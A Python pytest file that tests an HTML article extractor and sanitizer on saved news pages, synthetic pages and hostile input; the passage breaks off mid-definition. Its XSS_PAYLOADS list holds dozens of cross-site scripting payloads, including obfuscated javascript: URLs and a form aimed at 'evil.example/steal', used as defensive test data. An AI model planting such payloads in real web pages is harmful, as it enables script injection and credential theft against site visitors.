"""Tests of server.services.extraction on real pages, real texts and hostile input."""

from __future__ import annotations

import codecs
import gzip
import html
import json
import random
import re
import subprocess
import sys
import textwrap
from functools import cache
from pathlib import Path

import lxml.html
import pytest

from server.services.extraction import (
    ALLOWED_TAGS,
    EXTRACTOR_VERSION,
    Article,
    decode_html,
    extract,
    html_to_text,
)
from tests.paths import EXTRACTION_PAGES, EXTRACTION_TRUTH, REPO, SEEDS

WORD = re.compile(r"\w+")

# --- helpers -----------------------------------------------------------------

def words(text: str) -> list[str]:
    return WORD.findall(text.casefold())


def shingles(tokens: list[str], size: int = 4) -> list[tuple[str, ...]]:
    return [tuple(tokens[i:i + size]) for i in range(len(tokens) - size + 1)]


def collapse(text: str) -> str:
    return " ".join(text.split())


# --- fixture pages -----------------------------------------------------------

TRUTH = json.loads(EXTRACTION_TRUTH.read_text(encoding="utf-8"))
PAGES = sorted(EXTRACTION_PAGES.glob("*.html.gz"))

def page_key(path: Path) -> str:
    return path.name.removesuffix(".html.gz")


@cache
def extracted(key: str) -> Article:
    raw = gzip.decompress((EXTRACTION_PAGES / f"{key}.html.gz").read_bytes())
    return extract(decode_html(raw), TRUTH[key]["url"])


def test_extractor_version_is_a_string():
    assert isinstance(EXTRACTOR_VERSION, str) and EXTRACTOR_VERSION


def test_every_fixture_page_has_ground_truth():
    assert len(PAGES) == 59
    assert {page_key(path) for path in PAGES} == set(TRUTH)


@pytest.mark.parametrize("key", [page_key(p) for p in PAGES], ids=lambda key: key[:8])
def test_fixture_page_extracts_article(key):
    article = extracted(key)
    truth = TRUTH[key]["articleBody"]

    assert article.title and article.title.strip() == article.title
    assert article.title.casefold() != (article.site_name or "").casefold()
    assert article.text.strip() and article.content_html.strip()
    assert article.word_count == len(WORD.findall(article.text))
    # Most of the article's words are kept (measured minimum over the 59 pages: 0.90).
    found = set(words(article.text))
    truth_words = words(truth)
    assert sum(w in found for w in truth_words) / len(truth_words) >= 0.85


@pytest.mark.parametrize("key", [page_key(p) for p in PAGES], ids=lambda key: key[:8])
def test_fixture_page_keeps_lead_paragraph(key):
    """At least 70% of the lead paragraph's 4-word shingles are in the text.

    The lead is the first ground-truth paragraph of 10 words or more: some
    pages start with a label ("Claim") or a dateline ("Pittsburgh"), whose
    words would be found anywhere. Shingles, as in the benchmark's scoring,
    check the words in order. readability-lxml alone misses three leads:
    CNN's (in a wrapper named "media", which it drops) and Snopes' claim (a
    card beside the block it picks); Margins keeps them.
    """
    lead = next(line for line in TRUTH[key]["articleBody"].split("\n")
                if len(words(line)) >= 10)
    lead_shingles = shingles(words(lead))
    found = set(shingles(words(extracted(key).text)))
    assert sum(s in found for s in lead_shingles) / len(lead_shingles) >= 0.7


# Values read by hand from the pages' HTML.
PAGE_METADATA = {
    # <meta property="author">, article:published_time, og:site_name, rel=icon.
    "16c30add": {
        "title": "The law that’s helping fuel Delhi’s deadly air pollution",
        "author": "Umair Irfan",
        "site_name": "Vox",
        "published": "2019-11-08T15:30:00-05:00",
        "language": "en",
        "canonical_url": "https://www.vox.com/science-and-health/2019/11/8/20948348/"
                         "delhi-india-air-pollution-quality-cause",
        "favicon": "https://cdn.vox-cdn.com/community_logos/52517/voxv.png",
    },
    # Empty <meta name="author">: the author comes from JSON-LD; og:title
    # differs from <title>; <html lang="en-us">.
    "5fa5679d": {
        "title": "The Future of Apple Innovation Is Backwards",
        "author": "Adam Clark Estes",
        "site_name": "Gizmodo",
        "published": "2019-11-18T17:30:00-05:00",
        "language": "en-us",
    },
    # Author only as <a rel="author">; og:title ends in " - Sportsnet.ca".
    "0d461229": {
        "title": "Nadal keeps Spain alive against Russia in Davis Cup Finals",
        "author": "Associated Press",
        "site_name": "Sportsnet.ca",
        "favicon": "https://www.sportsnet.ca/sn_favicon.ico",
        "lead_image": "https://www.sportsnet.ca/wp-content/uploads/2019/11/22174394.jpg",
    },
    # <time datetime="2019-11-18 17:19:53 GMT">, relative rel=icon href.
    "680c2848": {
        "title": "The Early Reviews For Google's Stadia Gaming Platform Are Here"
                 " — And They're Not Great",
        "site_name": "Digg",
        "published": "2019-11-18T17:19:53+00:00",
        "canonical_url": "https://digg.com/2019/is-stadia-good-worth-it-reviews",
        "favicon": "https://digg.com/static/images/digg-favicon.png?v=1574205082",
        "lead_image": "https://cdn.digg.com/wp-content/uploads/2019/11/18172544/stadia-reviews.png",
    },
    # <meta name="author"> names the desk too; the date is an itemprop; <title> is another headline.
    "d605bdef": {
        "title": "Investors don't seem to know what to make of the US-China trade war",
        "author": "Jill Disis, CNN Business",
        "site_name": "CNN",
        "published": "2019-11-19T02:34:30+00:00",
    },
    # og:title differs from <title> ("... - BBC News"); the date only in JSON-LD.
    "70cb2d5b": {
        "title": "Taylor Swift's AMA row seems to be over",
        "site_name": "BBC News",
        "published": "2019-11-19T09:44:09+00:00",
    },
    # JSON-LD author list; the date appears as "...Z" and "...+00:00".
    "1ace8c85": {
        "author": "Catherine Shu",
        "site_name": "TechCrunch",
        "published": "2019-11-19T04:58:46+00:00",
        "language": "en-US",
    },
}


@pytest.mark.parametrize("prefix", PAGE_METADATA)
def test_fixture_page_metadata(prefix):
    key = next(key for key in TRUTH if key.startswith(prefix))
    article = extracted(key)
    expected = PAGE_METADATA[prefix]
    assert {field: getattr(article, field) for field in expected} == expected


# --- seeds wrapped in a realistic page ---------------------------------------

# Seeds that carry their page's chrome: the article runs from the line
# starting with the first marker to the line before the second one; the rest
# goes into the page's <nav> (before) and <footer> (after).
SEED_ARTICLE_BOUNDS = {
    "000": ("Why Are Nations Building Their Own AI Models?", "Read in Other Languages (beta)"),
    "001": ("Due to sanctions and censorship", None),
    "003": ("Meta, a long-time champion", None),
}
SITE_CHROME = [
    "Politics", "Newsletters", "Sign in", "Independent news since 1998",
    "We use cookies to improve your experience", "Accept all cookies", "Manage preferences",
    "Share on Facebook", "Share on X", "Email this story", "Copy link",
    "Most read", "Ten gadgets we loved this year", "Get the morning briefing",
    "About us", "Privacy policy", "Terms of service", "All rights reserved",
]
SEED_CHROME = {
    "000": ["Chat with your highlights & memories", "Kindle Highlight Export",
            "Glasp Reddit Community", "Connect Glasp to Claude & ChatGPT",
            "Why You Should Be Optimistic About the Future", "Glasp Inc."],
    "001": ["We scan new podcasts"],
    "003": ["We scan new podcasts"],
}
NAV_ITEMS = ["Home", "World", "Politics", "Business", "Technology", "Science", "Health",
             "Sports", "Culture", "Opinion", "Podcasts", "Newsletters", "Video", "Events",
             "Sign in", "Subscribe"]
_BOLD = re.compile(r"\*\*(.+?)\*\*")
_LIST_ITEM = re.compile(r"^(?:[-*•]|(\d+)\.)\s+(.*)")


def seed_blocks(lines: list[str]) -> list[tuple[str, str, list[str]]]:
    """Blocks of a seed's light Markdown: (kind, inline HTML, plain texts).

    kind is "h2", "p", "ul"/"ol" (a list item) or "tr" (a table row).
    """
    blocks = []
    list_item_next = False  # 002 writes list items as "-" on a line of its own
    for line in (line.strip() for line in lines):
        if line == "-":
            list_item_next = True
            continue
        if not line or set(line) <= set("|-: "):  # blank, rule or table separator
            continue
        heading = re.match(r"^#{1,6}\s+(.*)", line)
        item = _LIST_ITEM.match(line)
        if line.startswith("|"):
            cells = [cell.strip() for cell in line.strip("|").split("|")]
            markup = "".join(f"<td>{_inline_html(cell)}</td>" for cell in cells)
            blocks.append(("tr", markup, [_BOLD.sub(r"\1", cell) for cell in cells]))
            continue
        if heading:
            kind, content = "h2", heading.group(1)
        elif item:
            kind, content = ("ol" if item.group(1) else "ul"), item.group(2)
        else:
            kind, content = ("ul" if list_item_next else "p"), line
        list_item_next = False
        blocks.append((kind, _inline_html(content), [_BOLD.sub(r"\1", content)]))
    return blocks


def _inline_html(markdown: str) -> str:
    return _BOLD.sub(r"<strong>\1</strong>", html.escape(markdown))


def seed_body_html(blocks) -> str:
    """Group list items and table rows of `seed_blocks` into lists and tables."""
    parts, open_tag = [], None
    for kind, markup, _ in blocks:
        container = {"ul": "ul", "ol": "ol", "tr": "table"}.get(kind)
        if container != open_tag:
            if open_tag:
                parts.append(f"</{open_tag}>")
            if container:
                parts.append(f"<{container}>")
            open_tag = container
        inner = {"ul": "li", "ol": "li"}.get(kind, kind)
        parts.append(f"<{inner}>{markup}</{inner}>")
    if open_tag:
        parts.append(f"</{open_tag}>")
    return "\n".join(parts)


def seed_page(path: Path) -> tuple[str, str, list[str]]:
    """A realistic news page around a seed: (html, title, expected article texts)."""
    lines = path.read_text(encoding="utf-8").split("\n")
    title = None
    if lines[0] == "---":  # Obsidian publish front matter (JSON)
        end = lines.index("---", 1)
        title = json.loads("".join(lines[1:end]))["title"]
        lines = lines[end + 1:]
    start, stop = SEED_ARTICLE_BOUNDS.get(path.name[:3], (None, None))
    before, after = [], []
    if start:
        index = next(i for i, line in enumerate(lines) if line.startswith(start))
        before, lines = lines[:index], lines[index:]
    if stop:
        index = lines.index(stop)
        lines, after = lines[:index], lines[index:]
    if title is None and path.name[:3] in ("000", "002"):
        title, lines = lines[0].strip(), lines[1:]
    title = title or "Five insights from this week's podcasts"
    blocks = seed_blocks(lines)
    nav = "".join(f'<li><a href="/section/{i}/">{html.escape(item)}</a></li>'
                  for i, item in enumerate(NAV_ITEMS + [b.strip() for b in before if b.strip()]))
    footer_links = "".join(f'<li><a href="/more/{i}">{html.escape(a.strip(" •"))}</a></li>'
                           for i, a in enumerate(after) if a.strip())
    share = ('<div class="share-buttons">'
             '<a href="https://www.facebook.com/sharer/sharer.php?u=x">Share on Facebook</a> '
             '<a href="https://twitter.com/intent/tweet?url=x">Share on X</a> '
             '<a href="mailto:?subject=story">Email this story</a> <button>Copy link</button></div>')
    page = f"""<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>{html.escape(title)} | Example Media</title>
<meta property="og:title" content="{html.escape(title)}">
<meta property="og:site_name" content="Example Media">
<link rel="stylesheet" href="/static/site.css">
<script>window.dataLayer = window.dataLayer || []; dataLayer.push({{"page": "article"}});</script>
</head><body>
<div id="cookie-consent" class="cookie-banner" role="dialog">
  <p>We use cookies to improve your experience and to show you personalised ads.
  See our <a href="/privacy">privacy policy</a>.</p>
  <button>Accept all cookies</button><button>Manage preferences</button></div>
<header class="site-header"><a class="logo" href="/">Example Media</a>
  <p class="tagline">Independent news since 1998</p>
  <nav class="main-nav" aria-label="Main"><ul>{nav}</ul></nav></header>
<main id="content"><article class="post">
<h1>{html.escape(title)}</h1>
<div class="byline">By <a href="/authors/jane-doe" rel="author">Jane Doe</a> ·
  <time datetime="2025-05-24T09:30:00Z">May 24, 2025</time></div>
{share}
<div class="entry-content">
{seed_body_html(blocks)}
</div>
{share}
</article>
<aside class="sidebar"><h2>Most read</h2><ol>
  <li><a href="/a/1">Ten gadgets we loved this year</a></li>
  <li><a href="/a/2">The quiet return of the city bicycle</a></li>
  <li><a href="/a/3">What the new budget means for renters</a></li></ol>
  <div class="newsletter"><h3>Get the morning briefing</h3>
  <form action="/subscribe"><input type="email" placeholder="Your email"><button>Sign up</button></form>
  </div></aside>
</main>
<footer class="site-footer"><ul>{footer_links}</ul>
<ul><li><a href="/about">About us</a></li><li><a href="/privacy">Privacy policy</a></li>
<li><a href="/terms">Terms of service</a></li><li><a href="/contact">Contact</a></li></ul>
<p>© 2026 Example Media. All rights reserved.</p></footer>
<script>trackPageView({{"section": "technology"}});</script>
</body></html>"""
    expected = [collapse(text) for _, _, texts in blocks for text in texts if text.strip()]
    return page, title, expected


SEED_PATHS = sorted(SEEDS.glob("*.txt"))


def test_there_are_seeds():
    assert len(SEED_PATHS) == 5


@pytest.mark.parametrize("path", SEED_PATHS, ids=lambda path: path.name[:3])
def test_seed_article_survives_and_chrome_does_not(path):
    page, title, expected = seed_page(path)
    article = extract(page, "https://news.example.com/2025/05/24/story")

    text = collapse(article.text)
    # The headline is Article.title: blocks repeating it are not in the text.
    missing = [block for block in expected if block not in text and block != title]
    assert missing == []
    assert title not in article.text.split("\n")
    chrome = SITE_CHROME + SEED_CHROME.get(path.name[:3], [])
    assert [item for item in chrome if item in article.text] == []
    assert article.title == title
    assert article.author == "Jane Doe"
    assert article.site_name == "Example Media"
    assert article.published == "2025-05-24T09:30:00+00:00"
    assert article.language == "en"


# --- sanitizing --------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://img.example/a.png" onload="alert(1)" alt="picture">',
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="JaVaScRiPt:alert(1)">click me</a>',
    '<a href="jav&#x09;ascript:alert(1)">click me</a>',
    '<a href="jav&#x0A;ascript:alert(1)">click me</a>',
    '<a href=" &#14; javascript:alert(1)">click me</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click me</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">click me</a>',
    '<a href="javascript&colon;alert(1)">click me</a>',
    '<a href="java\0script:alert(1)">click me</a>',
    '<a href="vbscript:alert(1)">click me</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click me</a>',
    '<a href="data:text/html,<script>alert(1)</script>">click me</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="https://ok.example/" onmouseover="alert(1)">hover me</a>',
    '<iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="https://evil.example/x.swf"><param name="x" value="alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example/steal"><input name="password">'
    '<button formaction="javascript:alert(1)">Go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="10">svg link</text></a></svg>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:red" '
    'onclick="alert(1)">overlay</div>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
    "</table></mtext></math>",
    '<math href="javascript:alert(1)">math link</math>',
    "<details open ontoggle=alert(1)><summary>more</summary>details</details>",
    '<body onload="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<blockquote cite="javascript:alert(1)">quoted words</blockquote>',
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    '<img srcset="https://ok.example/a.png 1x, javascript:alert(1) 2x">',
    '<table background="javascript:alert(1)"><tr><td>cell</td></tr></table>',
    '<a href="https://ok.example/" target="_blank" rel="opener">new window</a>',
]

SAFE_ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title", "width", "height"},
    "abbr": {"title"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
}
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
    "form", "input", "button", "textarea", "select", "svg", "math", "link", "meta", "base",
    "noscript", "template", "video", "audio", "source", "body", "html",
}
URL_ATTRIBUTES = {"href", "src"}
SAFE_SCHEMES = ("http:", "https:", "mailto:")
ARTICLE_PARAGRAPHS = [
    "Rather than trying to predict specific geopolitical crises, Siemens builds resilience by "
    "creating separate technology stacks for different regions.",
    "For instance, its industrial AI for China is trained on Chinese LLMs, while its US "
    "counterpart uses American models, creating independent and compliant systems.",
    "By limiting access to top-tier proprietary models, U.S. policy may have ironically forced "
    "China to develop more efficient, open-source alternatives.",
    "This strategy is more effective for global adoption, as other countries can freely adapt "
    "these models without API limits or vendor lock-in.",
]


def article_with(payload: str) -> str:
    paragraphs = "".join(f"<p>{text}</p>" for text in ARTICLE_PARAGRAPHS)
    return f"""<html><head><title>Sovereign AI stacks</title></head><body>
<nav><a href="/">Home</a> <a href="/news">News</a></nav>
<article><h1>Sovereign AI stacks</h1>{paragraphs}
<p>The paragraph before the payload has enough words to count as article text, surely.</p>
{payload}
<p>The paragraph after the payload also has enough words to count as article text.</p>
{paragraphs}</article></body></html>"""


def assert_safe(content_html: str) -> None:
    """Every element and attribute of `content_html` is on the allowlist."""
    root = lxml.html.fragment_fromstring(content_html, create_parent="div")
    for element in root.iterdescendants():
        assert isinstance(element.tag, str), f"comment or PI survived: {element!r}"
        assert element.tag not in FORBIDDEN_TAGS and element.tag in ALLOWED_TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in SAFE_ATTRIBUTES.get(element.tag, set()), (element.tag, name)
            if name in URL_ATTRIBUTES:
                # Browsers ignore ASCII whitespace and controls in a scheme.
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                assert squeezed.startswith(SAFE_SCHEMES), value
        if element.tag == "a":
            assert element.get("rel") == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_unsafe_markup_does_not_survive(payload):
    article = extract(article_with(payload), "https://news.example.com/ai/sovereign")

    assert "payload has enough words" in article.text  # the payload was in the article
    assert "after the payload" in article.text
    assert_safe(article.content_html)
    assert "alert" not in article.content_html
    assert "evil.example" not in article.content_html


def test_safe_markup_survives_sanitizing():
    body = """<p>An <em>emphasized</em>, <strong>strong</strong> and <a href="/more" title="More">linked</a>
word, a <code>code</code> span and <abbr title="Large language model">LLM</abbr>.</p>
<figure><img src="/img/chart.png" alt="A chart" width="640" height="480">
<figcaption>Figure 1: the chart.</figcaption></figure>
<table><thead><tr><th colspan="2">Approach and examples</th></tr></thead>
<tbody><tr><td rowspan="2">Closed or proprietary</td><td>OpenAI, Anthropic</td></tr>
<tr><td>Control over capabilities, pricing and access</td></tr></tbody></table>
<blockquote><p>Quoted words from someone important in this story.</p></blockquote>"""
    article = extract(article_with(body), "https://news.example.com/ai/sovereign")

    root = lxml.html.fragment_fromstring(article.content_html, create_parent="div")
    link = root.xpath("//a[text()='linked']")[0]
    assert dict(link.attrib) == {"href": "https://news.example.com/more", "title": "More",
                                 "rel": "noopener noreferrer nofollow"}
    image = root.xpath("//img")[0]
    assert image.get("src") == "https://news.example.com/img/chart.png"
    assert image.get("alt") == "A chart"  # (readability itself drops width and height)
    assert root.xpath("//th")[0].get("colspan") == "2"
    assert root.xpath("//td")[0].get("rowspan") == "2"
    assert root.xpath("//abbr/@title") == ["Large language model"]
    for tag in ("em", "strong", "code", "figure", "figcaption", "table", "blockquote"):
        assert root.xpath(f"//{tag}"), tag


# --- relative URLs -----------------------------------------------------------


def test_relative_urls_are_made_absolute():
    page = """<html><head>
<link rel="canonical" href="/2025/story">
<link rel="apple-touch-icon" href="/touch.png"><link rel="shortcut icon" href="favicon.png">
<meta property="og:image" content="//cdn.example.com/lead.jpg">
</head><body><article>
<p>A paragraph with <a href="../other/page.html">a relative link</a>, a
<a href="/root">root-relative one</a>, <a href="?page=2">a query</a>,
<a href="#section-2">a fragment</a> and an <a href="mailto:editor@example.com">email</a>.</p>
<p><img src="images/photo.jpg" alt="Photo"> <img src="//cdn.example.com/b.png" alt="CDN"></p>
<p>Enough words here for readability to consider this paragraph part of an article body.</p>
</article></body></html>"""
    article = extract(page, "https://example.com/news/today/story.html")

    root = lxml.html.fragment_fromstring(article.content_html, create_parent="div")
    assert root.xpath("//a/@href") == [
        "https://example.com/news/other/page.html",
        "https://example.com/root",
        "https://example.com/news/today/story.html?page=2",
        "https://example.com/news/today/story.html#section-2",
        "mailto:editor@example.com",
    ]
    assert root.xpath("//img/@src") == [
        "https://example.com/news/today/images/photo.jpg",
        "https://cdn.example.com/b.png",
    ]
    assert article.canonical_url == "https://example.com/2025/story"
    assert article.favicon == "https://example.com/news/today/favicon.png"
    assert article.lead_image == "https://cdn.example.com/lead.jpg"


def test_base_href_is_honoured():
    page = """<html><head><base href="https://static.example.org/docs/"></head><body>
<p>See <a href="guide.html">the guide</a> and <img src="img/a.png" alt="a"> for more.</p></body></html>"""
    article = extract(page, "https://example.com/page")
    root = lxml.html.fragment_fromstring(article.content_html, create_parent="div")
    assert root.xpath("//a/@href") == ["https://static.example.org/docs/guide.html"]
    assert root.xpath("//img/@src") == ["https://static.example.org/docs/img/a.png"]


@pytest.mark.parametrize("url", ["", "about:blank", "file:///tmp/page.html", "http://[broken"])
def test_relative_urls_are_dropped_without_a_web_page_url(url):
    """A relative URL left in the snapshot would point at the Margins server."""
    page = ('<p>Read <a href="/api/v1/me">this</a> <img src="/logout" alt="x"> '
            '<a href="https://a.example/">that</a>.</p>')
    article = extract(page, url)
    root = lxml.html.fragment_fromstring(article.content_html, create_parent="div")
    assert root.xpath("//@href | //@src") == ["https://a.example/"]
    assert article.favicon is None


def test_favicon_defaults_to_origin():
    article = extract("<p>No icon declared.</p>", "https://Example.com:8443/a/b?c=d")
    assert article.favicon == "https://Example.com:8443/favicon.ico"


# --- plain text --------------------------------------------------------------


@pytest.mark.parametrize(("content_html", "text"), [
    ("<p>one</p><p>two</p>", "one\n\ntwo"),
    ("<ul><li>first</li><li>second <b>bold</b></li></ul><p>after</p>",
     "first\n\nsecond bold\n\nafter"),
    ("<ol><li>a<ul><li>nested</li></ul></li></ol>", "a\n\nnested"),
    ("<p>line one<br>line two<br/>line three</p>", "line one\nline two\nline three"),
    ("<p>  spaced \n\t out   words </p>", "spaced out words"),
    ("<h2>Title</h2>text<div>block</div>tail", "Title\n\ntext\n\nblock\n\ntail"),
    ("<p>in<em>line</em> <strong>stays</strong> to<span>gether</span></p>",
     "inline stays together"),
    ("<table><tr><td>cell one</td><td>cell two</td></tr></table>", "cell one\n\ncell two"),
    ("<blockquote><p>quoted</p></blockquote><pre>code\n  here</pre>", "quoted\n\ncode here"),
    ("<p>non\u00a0breaking</p>", "non breaking"),
    ("<p> </p><p></p>", ""),
    ("", ""),
])
def test_html_to_text(content_html, text):
    assert html_to_text(content_html) == text


def test_extract_text_blocks():
    article = extract("<p>one</p><p>two</p>", "https://example.com/")
    assert article.text == "one\n\ntwo"
    assert article.word_count == 2

    article = extract("<ul><li>alpha</li><li>beta</li></ul><p>x<br>y</p>", "https://example.com/")
    assert article.text == "alpha\n\nbeta\n\nx\ny"


@pytest.mark.parametrize("key", [page_key(p) for p in PAGES], ids=lambda key: key[:8])
def test_fixture_paragraphs_are_lines_of_the_text(key):
    """Each paragraph of the content is a line of its own: nothing runs together."""
    article = extracted(key)
    root = lxml.html.fragment_fromstring(article.content_html, create_parent="div")
    lines = set(article.text.split("\n"))
    paragraphs = [collapse(p.text_content()) for p in root.iter("p") if not p.xpath(".//br")]
    assert [p for p in paragraphs if p and p not in lines] == []


# --- metadata on synthetic pages -------------------------------------------


def page_with_head(head: str, body: str = "<p>Body text.</p>") -> str:
    return f"<html><head>{head}</head><body>{body}</body></html>"


def json_ld(data) -> str:
    return f'<script type="application/ld+json">{json.dumps(data)}</script>'


@pytest.mark.parametrize(("author", "expected"), [
    ("Ada Lovelace", "Ada Lovelace"),
    ({"@type": "Person", "name": "Ada Lovelace"}, "Ada Lovelace"),
    ([{"@type": "Person", "name": "Ada Lovelace"}, {"name": "Charles Babbage"}, "Ada Lovelace"],
     "Ada Lovelace, Charles Babbage"),
    ({"@type": "Person", "name": "By Ada Lovelace"}, "Ada Lovelace"),
])
def test_json_ld_author_forms(author, expected):
    head = json_ld({"@context": "https://schema.org", "@graph": [
        {"@type": "WebPage", "name": "Page"},
        {"@type": ["NewsArticle"], "headline": "Graph headline", "author": author,
         "datePublished": "2024-03-01T08:00:00Z", "publisher": {"name": "The Daily"},
         "inLanguage": "fr-FR", "image": {"@type": "ImageObject", "url": "/lead.png"}},
    ]})
    article = extract(page_with_head(head + "<title>Graph headline | The Daily</title>"),
                      "https://daily.example/x")
    assert article.author == expected
    assert article.title == "Graph headline"
    assert article.site_name == "The Daily"
    assert article.published == "2024-03-01T08:00:00+00:00"
    assert article.language == "fr-FR"
    assert article.lead_image == "https://daily.example/lead.png"


def test_meta_tags_beat_title_element():
    head = """<title>Real headline | Example Site</title>
<meta property="og:title" content="Real headline | Example Site">
<meta property="og:site_name" content="Example Site">
<meta name="description" content="  A short   description. ">
<meta property="article:author" content="https://www.facebook.com/someone">
<meta name="author" content="Grace Hopper">
<meta property="article:published_time" content="2023-07-04">
<meta property="og:locale" content="de_DE">"""
    article = extract(page_with_head(head), "https://example.com/a")
    assert article.title == "Real headline"
    assert article.site_name == "Example Site"
    assert article.description == "A short description."
    assert article.author == "Grace Hopper"
    assert article.published == "2023-07-04"
    assert article.language == "de-DE"


@pytest.mark.parametrize(("head", "body", "expected"), [
    ('<meta name="date" content="Tue, 19 Nov 2019 10:00:00 +0100">', "",
     "2019-11-19T10:00:00+01:00"),
    ("", '<time datetime="2020-02-29">Feb 29</time>', "2020-02-29"),
    (json_ld({"@type": "BlogPosting", "datePublished": "0001-01-01T00:00:00Z"}),
     '<time datetime="2021-05-06T07:08:09+02:00">then</time>', "2021-05-06T07:08:09+02:00"),
    ('<meta property="article:published_time" content="last Tuesday">', "", "last Tuesday"),
    ('<meta name="date" content="yesterday">', '<time datetime="2022-01-02T03:04">x</time>',
     "2022-01-02T03:04:00"),
])
def test_published_dates(head, body, expected):
    article = extract(page_with_head(head, body + "<p>Text.</p>"), "https://example.com/")
    assert article.published == expected


def test_title_falls_back_to_title_element_and_h1():
    assert extract("<title>Plain title</title><p>x</p>", "https://e.com/").title == "Plain title"
    heading_only = extract("<h1>Only a <em>heading</em></h1><p>x</p>", "https://e.com/")
    assert heading_only.title == "Only a heading"
    assert extract("<p>nothing</p>", "https://e.com/").title is None


def test_unsafe_or_broken_metadata_urls_are_ignored():
    head = """<link rel="canonical" href="javascript:alert(1)"><meta property="og:url" content="https://example.com/og">
<link rel="icon" href="data:image/png;base64,AAAA"><meta property="og:image" content="ftp://example.com/a.png">
<meta name="twitter:image" content="/tw.png">"""
    article = extract(page_with_head(head), "https://example.com/page")
    assert article.canonical_url == "https://example.com/og"
    assert article.favicon == "https://example.com/favicon.ico"
    assert article.lead_image == "https://example.com/tw.png"


def test_broken_json_ld_is_ignored():
    head = ('<script type="application/ld+json">{"@type": "Article", "headline": </script>'
            '<script type="application/ld+json">' + "[" * 100_000 + "</script>"
            + json_ld([{"@type": "Article", "headline": "Third script wins"}]))
    assert extract(page_with_head(head), "https://example.com/").title == "Third script wins"


# --- encodings and hostile input --------------------------------------------


def test_decode_html_follows_meta_charset():
    raw = ('<html><head><meta charset="iso-8859-1"><title>Café</title></head>'
           "<body><p>Crème brûlée.</p></body></html>")
    article = extract(decode_html(raw.encode("latin-1")), "https://example.com/")
    assert article.title == "Café"
    assert article.text == "Crème brûlée."
    assert decode_html(codecs.BOM_UTF8 + "ü".encode()) == "ü"
    assert decode_html(b"\xff\xfeo\x00k\x00") == "ok"
    assert decode_html(b"<p>\xe9</p>") == "<p>\ufffd</p>"


_RANDOM = random.Random(20261123)  # fixed seed: a failure can be replayed
HOSTILE = {
    "empty": "",
    "whitespace": " \n\t\r  ",
    "random-bytes": _RANDOM.randbytes(64_000).decode("latin-1"),
    "nul-bytes": "<p>before\x00after</p>\x00\x00<p>\x00</p>",
    "control-chars": "<p>" + "".join(map(chr, range(32))) + "text</p>",
    "control-char-references": "<p>a&#1;b&#0;c&#xdc00;d&#x110000;e&#12;f</p>",
    "lone-surrogates": "<p>broken \ud800 pair \udfff here</p>",
    "meta-charset": '<html><head><meta charset="iso-8859-1"></head><body><p>caf\xe9</p></body></html>',
    "xml-declaration": '<?xml version="1.0" encoding="ISO-8859-1"?>\n'
                       '<html xmlns="http://www.w3.org/1999/xhtml"><body><p>caf\xe9</p></body></html>',
    "utf16-declaration": '<?xml version="1.0" encoding="UTF-16"?><p>text</p>',
    "json": json.dumps({"title": "<b>x</b>", "items": list(range(1000))}),
    "plain-text": "Just a note.\n\nNo markup at all, only two paragraphs of text.",
    "pdf-bytes": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nstream\n"
                  + _RANDOM.randbytes(32_000) + b"\nendstream\n%%EOF").decode("latin-1"),
    "only-comment": "<!-- nothing here -->",
    "unclosed-comment": "<p>text</p><!--" * 5_000,
    "many-open-brackets": "<" * 100_000,
    "huge-attribute": '<p title="' + "x" * 1_000_000 + '">text</p>',
    "bad-base": '<base href="http://exa mple.com/"><p><a href="x">link</a></p>',
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_input_returns_an_article(name):
    article = extract(HOSTILE[name], "https://example.com/")
    assert isinstance(article, Article)
    assert isinstance(article.content_html, str) and isinstance(article.text, str)
    assert article.text == article.text.strip()
    assert article.word_count == len(WORD.findall(article.text))
    for value in (article.text, article.content_html, article.title or ""):
        assert "\x00" not in value
        value.encode("utf-8")  # no lone surrogates: storable as UTF-8


def test_declared_encodings_do_not_change_decoding():
    for name in ("meta-charset", "xml-declaration"):
        assert extract(HOSTILE[name], "https://example.com/").text == "café"


def run_isolated(code: str, timeout: float) -> dict:
    """Run `code` in a fresh interpreter; it must print one JSON line.

    A native stack overflow kills that interpreter, not pytest.
    """
    completed = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(code)],
        cwd=REPO, capture_output=True, text=True, timeout=timeout,
    )
    assert completed.returncode == 0, (completed.returncode, completed.stderr[-2000:])
    return json.loads(completed.stdout.strip().splitlines()[-1])


RUN_EXTRACT = """
import json
